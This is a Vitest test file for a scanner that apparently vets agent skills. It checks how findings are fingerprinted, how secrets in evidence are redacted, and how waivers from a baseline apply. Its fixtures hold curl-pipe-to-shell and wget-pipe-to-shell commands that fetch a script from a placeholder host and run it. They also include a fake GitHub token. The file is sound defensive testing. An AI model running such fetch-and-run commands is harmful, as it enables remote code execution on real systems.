import { describe, expect, it } from "vitest";
import { fingerprintFindings, normalise } from "../../src/verdict/fingerprint.js";
import { route } from "../../src/verdict/route.js";
import { analysis, finding, shippedPolicy } from "./helpers.js";

describe("finding fingerprints", () => {
  const f = finding({ ruleId: "patterns.curl-pipe-sh", file: "SKILL.md", line: 12, evidence: "curl -s https://x.invalid/i.sh | sh" });

  it("ignore the line number, whitespace and file:line references", () => {
    const [a] = fingerprintFindings("s", [f]);
    const [b] = fingerprintFindings("s", [{ ...f, line: 40, evidence: "  curl -s   https://x.invalid/i.sh | sh " }]);
    expect(a).toMatch(/^[0-9a-f]{32}:1$/);
    expect(b).toBe(a);
    expect(normalise("scripts/a.sh:12 runs curl (and 3 more places in this file) on line 9")).toBe("scripts/a.sh runs curl on line");
  });

  it("change with the skill, rule, file or evidence", () => {
    const [a] = fingerprintFindings("s", [f]);
    expect(fingerprintFindings("other", [f])[0]).not.toBe(a);
    expect(fingerprintFindings("s", [{ ...f, ruleId: "patterns.other" }])[0]).not.toBe(a);
    expect(fingerprintFindings("s", [{ ...f, file: "scripts/x.sh" }])[0]).not.toBe(a);
    expect(fingerprintFindings("s", [{ ...f, evidence: "wget -qO- https://x.invalid | sh" }])[0]).not.toBe(a);
  });

  it("number identical findings, and use the redacted evidence (a secret never shapes an id)", () => {
    const [a, b] = fingerprintFindings("s", [f, { ...f, line: 30 }]);
    expect(b).toBe(a!.replace(/:1$/, ":2"));
    const one = fingerprintFindings("s", [{ ...f, evidence: "token=ghp_aaaaBBBBccccDDDDeeeeFFFFgggg1234" }])[0];
    const two = fingerprintFindings("s", [{ ...f, evidence: "token=ghp_zzzzYYYYxxxxWWWWvvvvUUUUtttt9876" }])[0];
    expect(one).toBe(two);
  });

  it("falls back to the message when there is no evidence", () => {
    const m = finding({ file: "SKILL.md", message: "SKILL.md:3 grants Bash(*)" });
    expect(fingerprintFindings("s", [m])[0]).toBe(fingerprintFindings("s", [{ ...m, message: "SKILL.md:9 grants Bash(*)" }])[0]);
  });
});

describe("route with a baseline", () => {
  const review = finding({ ruleId: "patterns.example", file: "a.sh", evidence: "x" });
  const canary = finding({ ruleId: "behavior.canary-exfil", stage: "behavior", severity: "critical", file: "b.sh", evidence: "y" });

  it("lists baselined findings as waived with their fingerprint; they no longer decide", () => {
    const a = analysis({ findings: [review] });
    const [print] = fingerprintFindings(a.name, a.findings);
    const v = route(a, shippedPolicy, { baseline: new Map([[print!, "accepted in b.json"]]) });
    expect(v.decision).toBe("approved");
    expect(v.reasons).toEqual([expect.objectContaining({ kind: "waived", ruleId: "patterns.example", fingerprint: print, message: expect.stringContaining("in the baseline: accepted in b.json") })]);
    expect(route(a, shippedPolicy, { baseline: new Map([["0".repeat(32) + ":1", "x"]]) }).decision).toBe("review");
  });

  it("never accepts a never-waive rule from a baseline", () => {
    const a = analysis({ findings: [canary] });
    const [print] = fingerprintFindings(a.name, a.findings);
    const v = route(a, shippedPolicy, { baseline: new Map([[print!, "accepted"]]) });
    expect(v.decision).toBe("rejected");
    expect(v.reasons.some((r) => r.kind === "waived")).toBe(false);
  });
});
